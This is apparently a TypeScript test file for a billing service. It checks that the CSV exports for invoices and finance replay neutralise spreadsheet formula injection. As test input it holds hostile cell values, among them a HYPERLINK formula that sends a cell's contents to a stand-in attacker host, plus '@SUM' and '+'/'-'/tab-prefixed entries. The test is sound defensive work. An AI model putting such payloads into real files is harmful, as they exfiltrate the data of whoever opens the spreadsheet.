import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { subscriptionDecider } from '@relaycast/billing-core';
import { startTestServer, type ApiClient, type TestServer } from '../../test/harness.js';
import { buy, pay } from '../../test/billing.js';

/**
 * How a spreadsheet reads a CSV cell (Excel, LibreOffice Calc, Google Sheets, Numbers): a number when it is one; a
 * formula when it starts with =, +, - or @ (or a tab or CR, which some strip before looking), run when the file is
 * opened; text otherwise, a leading apostrophe marking text and not shown.
 */
type Cell = { number: number } | { formula: string } | { text: string };
function asSpreadsheetReads(cell: string): Cell {
  if (/^-?\d+(\.\d+)?$/.test(cell)) return { number: Number(cell) };
  if (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)) return { formula: cell };
  return { text: cell.startsWith("'") ? cell.slice(1) : cell };
}
const readAsSpreadsheet = (csv: string) => (parse(csv, { columns: true, skip_empty_lines: true }) as Record<string, string>[]).map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, asSpreadsheetReads(v)])));

/**
 * Issue 31, item 4: formula injection. A customer names themself `+1+2 -3+4`, bills to `=HYPERLINK(…)` at `@SUM(1+1)`;
 * finance opens the exports in a spreadsheet. Names are stored as typed; the exports neutralise every text cell a
 * spreadsheet would run, and amounts stay numbers.
 */
describe('CSV exports neutralise cells a spreadsheet would run as formulas (invoices, finance replay)', function () {
  this.timeout(60_000);
  let server: TestServer;
  let admin: ApiClient;
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")';
  const download = (client: ApiClient, path: string, init: RequestInit = {}) =>
    fetch(`${server.baseUrl}${path}`, { ...init, headers: { origin: server.baseUrl, cookie: [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; '), ...(init.headers as Record<string, string>) } });

  before(async () => {
    server = await startTestServer();
    admin = await server.admin();
    const eve = await server.client().post('/auth/local/register', { email: 'eve@csv.test', password: 'violet harbour 42 lantern', givenName: '+1+2', familyName: '-3+4', privacy_policy_confirm: true });
    expect(eve.status).to.equal(201);
    const customer = Object.assign(server.client(), { userId: eve.body.data._id as string });
    customer.cookies.set('auth_token', eve.body.data.token);
    const sub = await buy(customer, 2);
    await pay(server, customer, sub, '=1+1', '2026-10-01T09:00:00.000Z');
    const details = await customer.post('/billingDetails/update', { name: HYPERLINK, company: '@SUM(1+1)', address: '1 Formula Road', country: 'GB' });
    expect(details.status, 'hostile names are stored, not refused').to.equal(200);
    expect(details.body.data).to.include({ name: HYPERLINK, company: '@SUM(1+1)' });
    await pay(server, customer, sub, '\t=2+2', '2026-11-01T09:00:00.000Z');
    await server.rt.execute(subscriptionDecider, sub, {
      type: 'RecordRefund',
      data: { captureId: 'CAP-=1+1', refundId: '-RF-1', amount: 250, currency: 'USD' },
      metadata: { now: '2026-11-10T00:00:00.000Z', actorId: 'admin', actorRole: 'ROLE_ADMIN', correlationId: 'csv-refund' },
    });
    const head = await server.rt.events.headPosition();
    expect(await server.rt.invoicingReactor.waitFor(head, 10_000)).to.equal(true);
    expect(await server.rt.readSide.waitFor(await server.rt.events.headPosition(), 10_000)).to.equal(true);
  });
  after(async () => server.close());

  it('/invoices/export.csv: the names read back as the text typed, no cell is a formula, the amounts are numbers', async () => {
    const res = await download(admin, '/invoices/export.csv');
    expect(res.status).to.equal(200);
    const rows = readAsSpreadsheet(await res.text());
    const formulas = rows.flatMap((row) => Object.entries(row).filter(([, cell]) => 'formula' in cell).map(([column, cell]) => `${column}: ${JSON.stringify(cell)}`));
    expect(formulas).to.deep.equal([]);
    expect(rows.map((r) => [r.number, r.customer_name, r.customer_company, r.paypal_order_id, r.capture_id, r.refund_id, r.amount_cents, r.amount])).to.deep.equal([
      // 2 streams: 2 units × $5.
      [{ text: 'INV-000001' }, { text: '+1+2 -3+4' }, { text: '' }, { text: '=1+1' }, { text: 'CAP-=1+1' }, { text: '' }, { number: 1000 }, { number: 10 }],
      [{ text: 'INV-000002' }, { text: HYPERLINK }, { text: '@SUM(1+1)' }, { text: '\t=2+2' }, { text: 'CAP-\t=2+2' }, { text: '' }, { number: 1000 }, { number: 10 }],
      [{ text: 'CN-000001' }, { text: '+1+2 -3+4' }, { text: '' }, { text: '' }, { text: 'CAP-=1+1' }, { text: '-RF-1' }, { number: -250 }, { number: -2.5 }],
    ]);
  });

  it('/finance/replay as CSV: ids read back as the text they are, no cell is a formula, the amounts are numbers', async () => {
    const res = await download(admin, '/finance/replay', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ format: 'csv' }) });
    expect(res.status).to.equal(200);
    const rows = readAsSpreadsheet(await res.text());
    const formulas = rows.flatMap((row) => Object.entries(row).filter(([, cell]) => 'formula' in cell).map(([column, cell]) => `${column}: ${JSON.stringify(cell)}`));
    expect(formulas).to.deep.equal([]);
    const lines = rows.filter((r) => 'text' in r.line! && r.line.text === 'subscription');
    expect(lines.map((r) => r.paypal_order_ids)).to.deep.equal([{ text: '=1+1 \t=2+2' }]);
    expect(lines.map((r) => r.refund_ids)).to.deep.include({ text: '-RF-1' });
    const total = rows.find((r) => 'text' in r.line! && r.line.text === 'currency-total')!;
    expect([total.captured, total.refunded, total.net]).to.deep.equal([{ number: 20 }, { number: 2.5 }, { number: 17.5 }]);
  });
});
